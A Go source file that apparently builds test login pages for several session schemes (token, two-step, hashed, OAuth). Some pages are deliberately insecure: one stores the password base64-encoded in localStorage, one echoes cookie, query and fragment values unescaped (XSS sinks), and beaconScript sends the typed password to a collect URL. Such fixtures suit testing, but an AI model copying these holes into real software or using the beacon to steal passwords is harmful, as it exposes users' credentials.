package sessionsite

import (
	"fmt"
	"html"
	"net/http"
	"strings"
)

// template wraps every page: plain HTML, inline scripts only.
const template = `<!doctype html>
<html><head><meta charset=utf-8><title>TITLE</title>
<style>body { margin: 20px; font: 16px sans-serif; } input { width: 220px; height: 28px; margin: 4px; box-sizing: border-box; }
label { display: block; }</style>
</head><body>
BODY
</body></html>`

// page writes an HTML page; title is text, body is HTML. Pages are never
// cached: each shows the session as it is now.
func page(w http.ResponseWriter, status int, title, body string) {
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	w.Header().Set("Cache-Control", "no-store")
	w.WriteHeader(status)
	_, _ = fmt.Fprint(w, strings.Replace(strings.Replace(template, "TITLE", html.EscapeString(title), 1), "BODY", body, 1))
}

// welcome is a home page's body.
func welcome(user string) string {
	return `<h1>Home</h1><p id=welcome>Welcome, ` + html.EscapeString(user) + `</p>`
}

// errorLine is the error shown under a form ("" for none).
func errorLine(msg string) string {
	if msg == "" {
		return ""
	}
	return `<p id=error>` + html.EscapeString(msg) + `</p>`
}

// wrong is the error a wrong user or password gets.
const wrong = "Wrong user or password"

// hidden is a hidden form field.
func hidden(name, value string) string {
	return `<input type=hidden name=` + name + ` value="` + html.EscapeString(value) + `">`
}

// userField and pwField are the login fields every form uses.
const (
	userField = `<label>User <input id=user name=user autocomplete=username value=""></label>`
	pwField   = `<label>Password <input id=pw name=password type=password autocomplete=current-password></label>`
)

// loginForm is a classic login form posting to action, with the hidden
// fields extra and the error msg ("" for none).
func loginForm(action, extra, msg string) string {
	return `<h1>Sign in</h1>
<form id=login method=post action="` + html.EscapeString(action) + `">` + extra + `
` + userField + `
` + pwField + `
<button id=go type=submit>Sign in</button></form>
` + errorLine(msg)
}

// stepsUserPage is the first step of "steps": the username only.
func stepsUserPage(msg string) string {
	return `<h1>Sign in</h1>
<form id=login method=post action=/steps/login>
` + userField + `
<button id=go type=submit>Next</button></form>
` + errorLine(msg)
}

// stepsPasswordPage is the second step of "steps", for user.
func stepsPasswordPage(user, msg string) string {
	return `<h1>Sign in</h1><p>Signing in as <b id=who>` + html.EscapeString(user) + `</b></p>
<form id=login method=post action=/steps/password>
<input type=hidden name=user autocomplete=username value="` + html.EscapeString(user) + `">
` + pwField + `
<button id=go type=submit>Sign in</button></form>
` + errorLine(msg)
}

// postJSON is the scripts' helper: POST body as JSON to path.
const postJSON = `const postJSON = (path, body) => fetch(path, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(body) });
const $ = (id) => document.getElementById(id);`

// tokenLoginPage signs in with fetch and keeps the token in localStorage
// and the tab value in sessionStorage.
const tokenLoginPage = `<h1>Sign in</h1>
<form id=login method=post action=/token/login>
` + userField + `
` + pwField + `
<button id=go type=submit>Sign in</button></form>
<p id=error></p>
<script>
` + postJSON + `
$("login").addEventListener("submit", async (e) => {
  e.preventDefault();
  $("error").textContent = "";
  const r = await postJSON("/api/token", { user: $("user").value, password: $("pw").value });
  if (!r.ok) { $("error").textContent = "` + wrong + `"; return; }
  const { token, tab } = await r.json();
  localStorage.setItem("token", token);
  sessionStorage.setItem("tab", tab);
  location.href = "/token/home";
});
</script>`

// tokenCheck asks /api/me with the stored token and tab value and sets
// document.body.dataset.who to the user or "none"; then it calls done(who).
const tokenCheck = `<script>
(async () => {
  const token = localStorage.getItem("token"), tab = sessionStorage.getItem("tab");
  let who = "none";
  if (token && tab) {
    const r = await fetch("/api/me", { headers: { authorization: "Bearer " + token, "x-tab": tab } });
    if (r.ok) who = await r.text();
  }
  document.body.dataset.who = who;
  done(who);
})();
</script>`

// tokenHomePage shows #welcome once /api/me said who is signed in, and
// goes to the login page when nobody is.
const tokenHomePage = `<h1>Home</h1>
<script>
function done(who) {
  if (who === "none") { location.href = "/token/login"; return; }
  const p = document.createElement("p");
  p.id = "welcome";
  p.textContent = "Welcome, " + who;
  document.body.append(p);
}
</script>` + tokenCheck

// tokenWhoAmIPage only tells, in document.body.dataset.who.
const tokenWhoAmIPage = `<h1>Who am I</h1><script>function done() {}</script>` + tokenCheck

// memoryLoginPage holds both steps in one document: the first asks the
// username; its submit replaces it with the second, which signs in with
// fetch (the answer sets the session cookie).
const memoryLoginPage = `<h1>Sign in</h1>
<div id=step><form id=login method=post action=/memory/login>
` + userField + `
<button id=go type=submit>Next</button></form></div>
<p id=error></p>
<script>
` + postJSON + `
$("login").addEventListener("submit", (e) => {
  e.preventDefault();
  const user = $("user").value;
  $("step").innerHTML = '<form id=login method=post action=/memory/login><p>Signing in as <b id=who></b></p>' +
    '<input type=hidden id=username name=user autocomplete=username>' +
    '<label>Password <input id=pw name=password type=password autocomplete=current-password></label>' +
    '<button id=go type=submit>Sign in</button></form>';
  $("who").textContent = user;
  $("username").value = user;
  $("login").addEventListener("submit", async (e) => {
    e.preventDefault();
    $("error").textContent = "";
    const r = await postJSON("/api/memory", { user, password: $("pw").value });
    if (r.ok) location.href = "/memory/home"; else $("error").textContent = "` + wrong + `";
  });
});
</script>`

// hashedLoginPage sends the hex SHA-256 of the password, never the
// password: the field has no name, and the form's own submit is always
// cancelled.
const hashedLoginPage = `<h1>Sign in</h1>
<form id=login method=post action=/hashed/login>
` + userField + `
<label>Password <input id=pw type=password autocomplete=current-password></label>
<button id=go type=submit>Sign in</button></form>
<p id=error></p>
<script>
` + postJSON + `
const hex = (buf) => Array.from(new Uint8Array(buf), (b) => b.toString(16).padStart(2, "0")).join("");
$("login").addEventListener("submit", async (e) => {
  e.preventDefault();
  $("error").textContent = "";
  const hash = hex(await crypto.subtle.digest("SHA-256", new TextEncoder().encode($("pw").value)));
  const r = await postJSON("/api/hashed", { user: $("user").value, hash });
  if (r.ok) location.href = "/hashed/home"; else $("error").textContent = "` + wrong + `";
});
</script>`

// leakyLoginPage signs in with fetch and, once signed in, keeps the
// password base64-encoded in localStorage.
const leakyLoginPage = `<h1>Sign in</h1>
<form id=login method=post action=/leaky/login>
` + userField + `
` + pwField + `
<button id=go type=submit>Sign in</button></form>
<p id=error></p>
<script>
` + postJSON + `
$("login").addEventListener("submit", async (e) => {
  e.preventDefault();
  $("error").textContent = "";
  const r = await postJSON("/api/leaky", { user: $("user").value, password: $("pw").value });
  if (!r.ok) { $("error").textContent = "` + wrong + `"; return; }
  localStorage.setItem("remember", btoa($("pw").value));
  location.href = "/leaky/home";
});
</script>`

// reflected is what "reflect"'s login page echoes, unescaped: its cookie
// banner (read from the header as a naive server would), its query
// parameter msg, and, by a script, its fragment.
func reflected(r *http.Request) string {
	banner := ""
	for _, kv := range strings.Split(r.Header.Get("Cookie"), ";") {
		if v, ok := strings.CutPrefix(strings.TrimSpace(kv), "banner="); ok {
			banner = v
		}
	}
	return `<div id=banner>` + banner + `</div><div id=msg>` + r.URL.Query().Get("msg") + `</div><div id=note></div>
<script>document.getElementById("note").innerHTML = decodeURIComponent(location.hash.slice(1));</script>`
}

// beaconScript sends the password field's value to collect as the login
// form is submitted.
func beaconScript(collect string) string {
	return `<script>
document.getElementById("login").addEventListener("submit", () => {
  navigator.sendBeacon(` + "`" + collect + "`" + `, document.getElementById("pw").value);
});
</script>`
}

// authorizePage is the IdP's login form; the OAuth parameters ride along
// in hidden fields.
func authorizePage(client, state, redirect, msg string) string {
	return `<p>Sign in to continue to <b>` + html.EscapeString(client) + `</b></p>` +
		loginForm("/authorize", hidden("client", client)+hidden("state", state)+hidden("redirect_uri", redirect), msg)
}
